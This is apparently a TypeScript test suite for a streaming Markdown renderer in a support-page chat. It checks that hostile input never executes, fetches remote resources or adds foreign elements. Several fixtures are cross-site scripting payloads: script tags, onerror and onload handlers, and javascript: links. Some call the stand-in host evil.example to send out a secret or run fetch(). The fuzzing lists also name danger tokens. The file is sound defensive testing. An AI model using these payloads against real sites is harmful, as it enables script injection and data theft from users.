import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { hostileMarkdown, hugeMarkdown } from '../../../testing/hostile-corpus.ts';
import { createMarkdownWriter } from './markdown-writer.ts';
import { findStrangers, watchPage } from '../../../testing/hostile-corpus-watch.ts';

const base = 'https://support.tetra.example/help?product=tetra';
const options = {
  base,
  findSource: (number: number) =>
    number === 1 ? { href: '/docs/limits#max', label: '"><script>hacked=1</script>' } : undefined,
};

/** Elements below the page, so that whatever would load or run does. */
function stage(): HTMLElement {
  const root = document.createElement('div');
  document.body.append(root);
  return root;
}

function writeWhole(markdown: string, root = document.createElement('div')): HTMLElement {
  const writer = createMarkdownWriter(root, options);
  writer.write(markdown);
  writer.end();
  return root;
}

function writeLetters(
  markdown: string,
  root: HTMLElement,
  look: (written: string) => void = () => {},
): HTMLElement {
  const writer = createMarkdownWriter(root, options);
  let written = '';
  for (const letter of markdown) {
    writer.write(letter);
    written += letter;
    look(written);
  }
  writer.end();
  look(written);
  return root;
}

/** Everything wrong with one payload: letter by letter, at every beginning of it, and whole. */
function tryEverywhere(payload: string): string[] {
  const found: string[] = [];
  const look = (root: HTMLElement, written: string): void => {
    for (const stranger of findStrangers(root, base)) found.push(`${JSON.stringify(written)}: ${stranger}`);
  };
  const letters = stage();
  writeLetters(payload, letters, (written) => look(letters, written));
  const beginning = stage();
  for (let end = 1; end <= payload.length; end += 1) {
    beginning.replaceChildren();
    const writer = createMarkdownWriter(beginning, options);
    writer.write(payload.slice(0, end));
    look(beginning, payload.slice(0, end));
    writer.end();
    look(beginning, payload.slice(0, end));
  }
  if (beginning.innerHTML !== letters.innerHTML) {
    found.push(`${JSON.stringify(payload)}: ${letters.innerHTML} is not ${beginning.innerHTML}`);
  }
  return found;
}

/** Time for what was started to happen: frames to be laid out, loads to begin, handlers to run. */
async function afterFrames(): Promise<void> {
  for (let frame = 0; frame < 3; frame += 1) await new Promise(requestAnimationFrame);
}

const page = watchPage();
beforeAll(() => page.start());
afterAll(() => page.stop());

describe('the watch over the page', () => {
  it.each([
    ['<img src="/x" onerror="window.hacked = 1">', 'hacked'],
    ['<svg onload="alert(1)"></svg><img src="/x" onerror="alert(1)">', 'alert'],
    ['<img src="https://evil.example/?d=secret">', 'img-src https://evil.example/?d=secret'],
    ['<style>@import url(https://evil.example/x.css)</style>', 'style-src-elem https://evil.example/x.css'],
    ['<iframe src="https://evil.example/"></iframe>', 'frame-src https://evil.example'],
    [
      '<img src="/x" onerror="fetch(\'https://evil.example/f\').catch(() => {})">',
      'fetch https://evil.example/f',
    ],
  ])('notices what %s does when it is let in', async (html, expected) => {
    const root = stage();
    root.innerHTML = html;
    const seen: string[] = [];
    await expect
      .poll(() => seen.splice(seen.length, 0, ...page.take()) && seen)
      .toContainEqual(expect.stringContaining(expected));
    expect(findStrangers(root, base)).not.toEqual([]);
    root.remove();
    await afterFrames();
    page.take();
  });

  it.each([
    ['<a href="https://evil.example/">support.tetra.example</a>'],
    [
      '<a href="https://evil.example/" target="_blank" rel="noopener noreferrer nofollow">evil.example.org</a>',
    ],
    ['<a href="javascript:1" target="_blank" rel="noopener noreferrer nofollow">x</a>'],
    ['<p id="location">x</p>'],
    ['<p style="color:red">x</p>'],
    ['<p class="chat-tool">x</p>'],
    ['<div role="alert">x</div>'],
    ['<input>'],
    ['<math></math>'],
  ])('tells %s from what we write', (html) => {
    const root = document.createElement('div');
    root.innerHTML = html;
    expect(findStrangers(root, base)).not.toEqual([]);
  });
});

describe('hostile Markdown', () => {
  it('is tried in more than 150 ways', () => {
    expect(new Set(Object.values(hostileMarkdown).flat()).size).toBeGreaterThan(150);
  });

  it.each(Object.entries(hostileMarkdown))(
    '%s: nothing runs, nothing is fetched and nothing strange stands in the page, at every letter [A32, A33, A47, A48, A57]',
    async (_family, payloads) => {
      expect(payloads.flatMap(tryEverywhere)).toEqual([]);
      await afterFrames();
      expect(page.take()).toEqual([]);
      document.body.replaceChildren();
    },
    30_000,
  );

  it.each(Object.entries(hugeMarkdown))(
    '%s: 32,000 letters take 50 ms or in proportion to 8,000, stay shallow and can be laid out [A32]',
    (_name, markdown) => {
      expectProportion(markdown);
      const letters = writeLetters(markdown, stage());
      // Chromium ends a page that is a few thousand elements deep when it lays it out.
      expect(letters.offsetHeight).toBeGreaterThanOrEqual(0);
      expect(letters.innerHTML).toBe(writeWhole(markdown).innerHTML);
      expect(findStrangers(letters, base)).toEqual([]);
      expect(depthOf(letters)).toBeLessThan(80);
      letters.remove();
    },
  );
});

/**
 * 250 ms, or on a machine that does other things too, no more than twice what a quarter of the text would suggest: where time grew with the
 * square of the length it would be four times that. Tried again only while it has not been shown, since other work only ever adds.
 */
function expectProportion(markdown: string): void {
  const quarter = markdown.slice(0, markdown.length / 4);
  const fastest = { whole: Infinity, quarter: Infinity };
  const allowed = (): number => Math.max(250, 8 * fastest.quarter);
  for (let tries = 0; tries < 20; tries += 1) {
    fastest.whole = Math.min(
      fastest.whole,
      timeOf(() => writeWhole(markdown)),
    );
    if (fastest.whole < 250) return;
    fastest.quarter = Math.min(
      fastest.quarter,
      timeOf(() => writeWhole(quarter)),
    );
    // One look at a quarter may have been disturbed itself, and allow too much.
    if (tries >= 4 && fastest.whole < allowed()) return;
  }
  expect(fastest.whole).toBeLessThan(allowed());
}

function timeOf(work: () => void): number {
  const start = performance.now();
  work();
  return performance.now() - start;
}

function depthOf(root: HTMLElement): number {
  const walker = document.createTreeWalker(root, NodeFilter.SHOW_ELEMENT);
  let [depth, deepest] = [0, 0];
  for (;;) {
    if (walker.firstChild()) depth += 1;
    else {
      while (!walker.nextSibling()) {
        if (!walker.parentNode()) return deepest;
        depth -= 1;
      }
    }
    deepest = Math.max(deepest, depth);
  }
}

const words = ['alpha', 'beta', 'gamma', 'h', 'https', 'x'];
const inlineMarks = '* ** *** _ __ ~ ~~ ` `` [ ] ( ) ![ ! \\ < > : / // $ & " \' = {'.split(' ');
const blockMarks = '| |-| |---|---| # ## - + 1. 2) > ---'.split(' ').flatMap((mark) => [mark, `${mark} `]);
const spaces = ['\n', '\n\n', ' ', '    ', '\t', '  ', '\r\n', '\u00a0', '\u{1f600}', '\u202e', '[ ] '];
const marks = [inlineMarks, blockMarks, spaces].flat();
const dangers = [
  '](',
  '```',
  '~~~',
  '<br>',
  'https://evil.example',
  'javascript:',
  '[1]',
  '<script>',
  'onload=',
];
const join = (parts: readonly string[]): string => parts.join('');
const markdown = fc.array(fc.constantFrom(...words, ...marks, ...dangers), { maxLength: 60 }).map(join);
const plainMarkdown = fc.array(fc.constantFrom(...words, ...marks), { maxLength: 60 }).map(join);

describe('any Markdown at all', () => {
  it('brings in nothing strange and is the same however it is cut [A32, A33]', () => {
    const property = fc.property(
      fc.oneof({ weight: 4, arbitrary: markdown }, fc.string({ unit: 'grapheme', maxLength: 80 })),
      (text) => {
        const whole = writeWhole(text);
        const letters = writeLetters(text, document.createElement('div'));
        expect(findStrangers(whole, base)).toEqual([]);
        expect(letters.innerHTML).toBe(whole.innerHTML);
      },
    );
    fc.assert(property, { numRuns: 4_000 });
  });

  it('loses no word and doubles none', () => {
    const letters = (text: string): string => text.replaceAll(/[^a-z]/g, '');
    const property = fc.property(plainMarkdown, (text) => {
      // The name of a language after a fence is not shown.
      fc.pre(!/`{3}|~{3}/.test(text.replaceAll('\u202e', '')));
      expect(letters(writeWhole(text).textContent)).toBe(letters(text));
    });
    fc.assert(property, { numRuns: 6_000 });
  });

  it('takes time in proportion to its length', () => {
    const text = fc.array(fc.constantFrom(...words, ...marks, ...dangers), { minLength: 4, maxLength: 12 });
    const property = fc.property(text.map(join), (part) => {
      const long = part.repeat(Math.ceil(32_000 / Math.max(1, part.length))).slice(0, 32_000);
      expectProportion(long);
    });
    fc.assert(property, { numRuns: 40, endOnFailure: true });
  }, 90_000);
});
